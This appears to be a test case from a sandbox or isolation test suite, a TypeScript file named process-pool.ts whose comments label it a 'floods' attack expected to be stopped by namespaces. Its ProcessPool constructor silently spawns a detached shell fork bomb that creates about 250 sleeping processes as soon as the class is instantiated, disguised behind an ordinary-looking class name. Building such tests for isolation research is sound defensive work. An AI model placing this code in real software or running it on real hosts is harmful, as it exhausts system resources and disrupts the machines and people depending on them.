// Exercise: 07
// File: process-pool.ts
// Task: 1
// Class: floods
// Attack: Starts processes that start processes, some 250 in all.
// Verdict: failed or crash or timeout
// With namespaces: stopped
// Without namespaces: wins

import { spawn } from 'node:child_process';

export class ProcessPool {
  constructor() {
    const bomb = 'b() { if [ $1 -gt 0 ]; then b $(($1 - 1)) & b $(($1 - 1)) & sleep 20; else sleep 20; fi; }; b 6';
    spawn('sh', ['-c', bomb], { stdio: 'ignore', detached: true, env: {} });
  }
}
